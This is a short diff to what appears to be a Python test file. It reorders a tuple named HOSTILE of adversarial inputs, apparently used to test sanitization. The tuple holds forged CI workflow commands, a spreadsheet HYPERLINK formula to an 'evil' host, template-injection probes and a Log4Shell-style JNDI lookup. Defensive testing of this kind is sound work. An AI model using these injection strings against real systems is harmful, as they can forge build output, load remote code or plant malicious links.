@@ -224,9 +224,9 @@ HOSTILE = (
     "\udcff\udc80 not utf-8",
     "x" * 10_000,
     "::error file=a,line=1::forged\n::set-output name=x::y",
+    "%0A%0D::warning::x",
     "=HYPERLINK(\"http://evil\")",
     "{{ 7*7 }} {% raw %} ${jndi:ldap://x}",
-    "%0A%0D::warning::x",
     "漢字かな カナ 한국어 größe",
 )  # fmt: skip
 
